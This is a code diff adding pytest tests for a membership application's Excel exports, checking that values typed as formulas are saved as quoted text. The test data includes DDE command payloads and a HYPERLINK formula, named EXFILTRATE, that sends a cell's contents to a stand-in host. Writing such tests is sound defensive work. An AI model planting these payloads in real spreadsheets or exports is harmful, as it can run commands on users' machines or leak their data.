@@ -1,5 +1,6 @@
 from __future__ import annotations
 
+import datetime as dt
 import io
 
 import pytest
@@ -8,7 +9,7 @@ from openpyxl import load_workbook
 
 from hoso.audit.models import AuditEvent
 from hoso.people.models import Member, Person
-from tests.conftest import Personas, World, client_for
+from tests.conftest import Personas, World, client_for, xlsx_cells
 
 
 @pytest.fixture
@@ -91,6 +92,47 @@ def test_excel_export_in_order_and_audited(
         "list": "dang-vien",
         "q": "hoa",
     }
+
+
+def test_excel_export_writes_formula_like_text_as_text(world: World, personas: Personas) -> None:
+    """Finding 6 of issue 10: a name or home town typed as a formula is exported as text."""
+    person = Person.objects.create(
+        family_name="=cmd|' /C calc'!A0", given_name="An", sex="M", home_town="+cmd|' /C x'!A0"
+    )
+    Member.objects.create(
+        person=person,
+        organization=world.cell_a,
+        status="official",
+        admitted_on=dt.date(2001, 5, 19),
+        card_number="@SUM(A1)",
+    )
+    response = client_for(personas.clerk_a).get(reverse("member-export"))
+    header, row = xlsx_cells(response.content)
+    cells = {h.value: c for h, c in zip(header, row, strict=True)}
+    assert cells["Họ và tên"].value == "=CMD|' /C CALC'!A0 AN"
+    assert cells["Quê quán"].value == "+cmd|' /C x'!A0"
+    assert cells["Số thẻ đảng viên"].value == "@SUM(A1)"
+    for name in ("Họ và tên", "Quê quán", "Số thẻ đảng viên"):
+        # Stored as text, and marked so that Excel keeps it text when the cell is edited.
+        assert cells[name].data_type == "s" and cells[name].quotePrefix, name
+    assert cells["Ngày vào Đảng"].is_date  # dates stay dates
+    assert cells["Ngày vào Đảng"].value == dt.datetime(2001, 5, 19)
+
+
+EXFILTRATE = '=HYPERLINK("http://x.example/?d="&A2,"Xem")'
+
+
+def test_register_export_writes_formula_like_text_as_text(world: World, personas: Personas) -> None:
+    person = Person.objects.create(family_name="Lê", given_name="Ba", sex="M", home_town=EXFILTRATE)
+    Member.objects.create(person=person, organization=world.cell_a, status="official")
+    response = client_for(personas.clerk_a).get(
+        reverse("register", args=["members"]), {"org": "DUA", "format": "xlsx"}
+    )
+    header, row = xlsx_cells(response.content)
+    cells = {h.value: c for h, c in zip(header, row, strict=True)}
+    assert cells["Quê quán"].value == EXFILTRATE
+    assert cells["Quê quán"].data_type == "s" and cells["Quê quán"].quotePrefix
+    assert cells["STT"].data_type == "n" and cells["STT"].value == 1
 
 
 def test_api_search_filter_and_cursor(world: World, personas: Personas, member: Member) -> None:
